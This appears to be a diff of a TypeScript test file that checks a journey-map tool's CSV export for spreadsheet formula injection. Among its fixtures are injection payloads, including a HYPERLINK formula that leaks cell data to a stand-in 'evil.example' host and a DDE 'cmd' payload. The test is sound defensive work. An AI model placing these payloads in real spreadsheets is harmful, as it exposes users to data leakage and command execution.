@@ -1,3 +1,4 @@
+import { readFile } from "node:fs/promises";
 import {
   createCard,
   createJourneyMap,
@@ -5,11 +6,14 @@ import {
   type JourneyMap,
   LANE_KIND_TITLES,
   type Lane,
+  LIMITS,
+  parseJourneyMap,
 } from "@journeykit/core";
 import fc from "fast-check";
 import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { journeyMapArbitrary } from "../../../core/test/arbitraries.js";
+import { cardsCsv } from "../../test/hostile/recipes.js";
 import { escapeCsvText, unescapeCsvText } from "./csv-injection.js";
 import { fromCsv } from "./from-csv.js";
 import { toCsv } from "./to-csv.js";
@@ -32,21 +36,50 @@ const nasty = fc.oneof(
   ),
 );
 
-/** The arbitrary's maps, with card texts, tags, ratings and evidence that stress the CSV. */
+/** Starts of ids a spreadsheet would run as formulas (or that only look escaped). */
+const hostileIdStart = fc.constantFrom(
+  "",
+  '=HYPERLINK("http://evil.example","x")',
+  "=cmd|' /C calc'!A0",
+  "+",
+  "-",
+  "@SUM(1)",
+  "\t",
+  "\r",
+  "'=",
+  "''+",
+  " spaced ",
+  "a,b\n",
+);
+
+/**
+ * The arbitrary's maps, with card texts, tags, ratings and evidence that stress the CSV, and card and
+ * touchpoint ids that start like formulas (every reference to a touchpoint follows its new id).
+ */
 const csvMapArbitrary = fc
   .tuple(
     journeyMapArbitrary,
     fc.array(nasty, { minLength: 12, maxLength: 12 }),
     fc.array(nasty, { maxLength: 3 }),
+    fc.array(hostileIdStart, { minLength: 12, maxLength: 12 }),
   )
-  .map(([map, texts, tags]) => {
+  .map(([map, texts, tags, idStarts]) => {
     map.cards.forEach((card, i) => {
       card.text = texts[i % texts.length]!;
+      card.id = `${idStarts[i]}card${i}`;
       if (i % 2 === 1) card.tags = tags;
       if (i % 3 === 1) Object.assign(card, { impact: 4, effort: 2, evidence: "observed" });
     });
+    const touchpointIds = new Map(map.touchpoints.map((t, i) => [t.id, `${idStarts[11 - i]}tp${i}`]));
+    for (const record of [...map.cards, ...map.emotions, ...map.momentsOfTruth, ...map.metrics])
+      if (record.touchpointId !== undefined)
+        record.touchpointId = touchpointIds.get(record.touchpointId) ?? record.touchpointId;
+    for (const touchpoint of map.touchpoints) touchpoint.id = touchpointIds.get(touchpoint.id)!;
     return map;
   });
+
+/** Every cell of a CSV, header included, as papaparse reads it. */
+const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
 
 /** A lane written with a blank title comes back with its kind's default title. */
 const laneTitle = (lane: Lane) => lane.title.trim() || LANE_KIND_TITLES[lane.kind];
@@ -92,6 +125,47 @@ describe("CSV injection escaping", () => {
 });
 
 describe("toCsv / fromCsv", () => {
+  it("leaves no cell in any column starting like a formula, ids included (property)", () => {
+    const hostile = fc.oneof(
+      nasty,
+      hostileIdStart.map((start) => `${start}x`),
+    );
+    fc.assert(
+      fc.property(csvMapArbitrary, fc.array(hostile, { minLength: 6, maxLength: 6 }), (map, names) => {
+        for (const stage of map.stages) stage.name = names[0]!;
+        for (const lane of map.lanes) lane.title = names[1]!;
+        for (const persona of map.personas) persona.name = names[2]!;
+        for (const touchpoint of map.touchpoints)
+          Object.assign(touchpoint, { name: names[3]!, owner: names[4]!, description: names[5]! });
+        for (const kind of ["cards", "touchpoints"] as const)
+          for (const cell of cells(toCsv(map, { kind }))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      }),
+      { numRuns: runs },
+    );
+  });
+
+  it("escapes a formula in the id column and reads the id back exactly", () => {
+    const map = createJourneyMap({ title: "T" });
+    const id = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    map.cards.push(createCard({ id, laneId: map.lanes[0]!.id, stageId: map.stages[0]!.id, text: "x" }));
+    const csv = toCsv(map);
+    expect(Papa.parse<string[]>(csv).data[1]![0]).toBe(`'${id}`);
+    const fresh = fromCsv(csv);
+    expect(fresh.ok && fresh.map.cards.map((c) => c.id)).toEqual([id]);
+    const merged = fromCsv(csv, { map });
+    expect(merged.ok && merged.map).toEqual(map);
+  });
+
+  it("accepts a one-column CSV (text only): cards land in an Unsorted stage and a Notes lane", () => {
+    const result = fromCsv("text\nQueue too long\n=1+2\n'=quoted\n");
+    if (!result.ok) throw new Error(JSON.stringify(result.errors));
+    expect(result.map.cards.map((c) => c.text)).toEqual(["Queue too long", "=1+2", "=quoted"]);
+    expect(result.map.stages.map((s) => s.name)).toEqual(["Unsorted"]);
+    expect(result.map.lanes.map((l) => [l.kind, l.title])).toEqual([["notes", LANE_KIND_TITLES.notes]]);
+    const touchpoints = fromCsv("name,channel\nKiosk,in-store\n");
+    expect(touchpoints.ok && touchpoints.map.touchpoints.map((t) => t.name)).toEqual(["Kiosk"]);
+  });
+
   it("merging a map's own CSV into it gives the map back (property)", () => {
     fc.assert(
       fc.property(csvMapArbitrary, (map) => {
@@ -263,5 +337,60 @@ describe("toCsv / fromCsv", () => {
       ok: false,
       errors: [{ path: "row 2, column channel", message: expect.stringContaining('got "fax"') }],
     });
+  });
+});
+
+// Sizes that took seconds to minutes when every row scanned the map (50,000 rows: 9 s); the time
+// figures are in bench/importers.bench.test.ts, these tests check the result.
+describe("fromCsv on the largest inputs", () => {
+  it("imports 50,000 rows with ids (the most cards a map holds) and merges them back unchanged", () => {
+    const csv = cardsCsv(LIMITS.maxRecordsPerKind);
+    const fresh = fromCsv(csv);
+    if (!fresh.ok) throw new Error(JSON.stringify(fresh.errors));
+    expect(fresh.map.cards).toHaveLength(LIMITS.maxRecordsPerKind);
+    expect(fresh.map.cards.at(-1)).toMatchObject({
+      id: "card_49999",
+      text: "Card 49999, with a comma",
+      votes: 5,
+    });
+    expect([fresh.map.stages.length, fresh.map.lanes.length, fresh.map.personas.length]).toEqual([20, 5, 3]);
+    const merged = fromCsv(csv, { map: fresh.map });
+    expect(merged.ok && JSON.stringify(merged.map)).toBe(JSON.stringify(fresh.map));
+  });
+
+  it("refuses more rows than a map can hold, naming the first row over the limit", () => {
+    expect(fromCsv(cardsCsv(LIMITS.maxRecordsPerKind + 1))).toEqual({
+      ok: false,
+      errors: [{ path: "row 50002", message: "50001 rows: a map holds at most 50000 cards" }],
+    });
+  });
+});
+
+describe("hostile CSV inputs (test/hostile)", () => {
+  const hostile = (name: string) => readFile(new URL(`../../test/hostile/${name}`, import.meta.url), "utf8");
+
+  it("csv-formula-ids: no cell of either CSV starts like a formula, and both read back exactly", async () => {
+    const parsed = parseJourneyMap(await hostile("csv-formula-ids.journey.json"));
+    if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
+    const map = parsed.map;
+    for (const kind of ["cards", "touchpoints"] as const) {
+      const csv = toCsv(map, { kind });
+      for (const cell of cells(csv)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      const merged = fromCsv(csv, { map });
+      expect(merged.ok && merged.map).toEqual(map);
+    }
+    const fresh = fromCsv(toCsv(map));
+    expect(fresh.ok && fresh.map.cards.map((c) => c.id)).toEqual(map.cards.map((c) => c.id));
+  });
+
+  it("csv-one-column: a text-only CSV gives one card per row in Unsorted / Notes", async () => {
+    const result = fromCsv(await hostile("csv-one-column.csv"));
+    if (!result.ok) throw new Error(JSON.stringify(result.errors));
+    expect(result.map.cards.map((c) => c.text)).toEqual([
+      "Queue too long at the counter",
+      "App crashed at payment",
+      "Staff, friendly",
+    ]);
+    expect(result.map.stages.map((s) => s.name)).toEqual(["Unsorted"]);
   });
 });
